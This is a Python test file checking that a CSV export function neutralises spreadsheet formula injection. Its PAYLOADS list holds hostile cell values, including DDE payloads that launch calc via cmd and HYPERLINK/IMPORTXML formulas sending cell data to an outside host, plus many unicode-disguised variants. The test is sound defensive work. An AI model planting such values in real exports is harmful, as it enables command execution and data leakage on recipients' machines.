"""A CSV of ours calculates nothing, whatever is in it, and comes back as it was."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zvdesk.exchange.csv_out import inert, write_csv

PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    " =1",
    "\t=1",
    "\r\n=1",
    "\x00=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\ufe66x",
    "'=1",
    '"=1',
    ";=1",
    ",=1",
    "\u00a0=1",
    "\u3000=1",
    '=HYPERLINK("https://voorbeeld.test?x="&A1)',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://voorbeeld.test")',
    "-2+3+cmd|' /C calc'!D2",
)


def cells(data: bytes, delimiter: str) -> list[list[str]]:
    """Read a CSV as another program does."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    visible = "".join(c for c in cell if unicodedata.category(c)[0] not in "CZ")
    return unicodedata.normalize("NFKC", visible)[:1] in {*"=+-@"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula(payload: str) -> None:
    assert is_formula(payload) or payload[0] in "'\";,|%"
    data = write_csv(("wie", payload), [(payload, "gewoon"), ("gewoon", payload)])
    rows = cells(data, ";")
    assert [len(row) for row in rows] == [2, 2, 2]
    assert not any(is_formula(cell) for row in rows for cell in row)
    for quotes_are_ignored in (data.replace(b'"', b""),):
        lines = quotes_are_ignored.decode("utf-8-sig").splitlines()
        assert len(lines) == 3


@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=5))
def test_every_table_keeps_its_shape_and_stays_inert(table: list[list[str]]) -> None:
    rows = cells(write_csv(("a", "b", "c"), table), ";")
    assert rows == [["a", "b", "c"], *([inert(cell) for cell in row] for row in table)]
    assert not any(is_formula(cell) for row in rows for cell in row)


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("F. Voorbeeld", "2026-11-24T09:00:00+01:00", "", "a=b", "Łukasz; Çiğdem", '"zo"'):
        assert inert(text) == text
    assert inert("een\r\ntwee") == "een  twee"
    assert write_csv(("a",), []).startswith(b"\xef\xbb\xbf")
